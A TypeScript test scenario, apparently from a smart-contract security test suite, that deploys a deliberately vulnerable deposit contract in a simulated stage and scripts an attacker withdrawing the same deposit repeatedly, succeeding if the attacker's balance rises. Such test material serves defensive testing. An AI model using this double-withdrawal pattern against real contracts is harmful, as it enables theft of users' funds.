import {cell, gram, noEntries, uint} from '../fields.ts';
import type {Scenario} from '../scenario.ts';

/** Withdraws the same deposit again and again. */
export const scenario: Scenario = {
  files: {bad: 'samples/security/deposits-bad.fc', good: 'samples/security/deposits-good.fc'},
  shown: ['attacker', 'contract'],
  prepare: async (stage) => {
    await stage.deploy('contract', cell(noEntries), gram('0.1'));
    await stage.send({from: 'owner', to: 'contract', value: gram('5'), body: cell(uint(32, 0xf01))});
  },
  attack: async (stage) => {
    await stage.send({from: 'attacker', to: 'contract', value: gram('1'), body: cell(uint(32, 0xf01))});
    for (let again = 0; again < 3; again++)
      await stage.send({from: 'attacker', to: 'contract', value: gram('0.05'), body: cell(uint(32, 0xf02))});
  },
  succeeded: ({before, after}) => after.balances.attacker! > before.balances.attacker!,
};
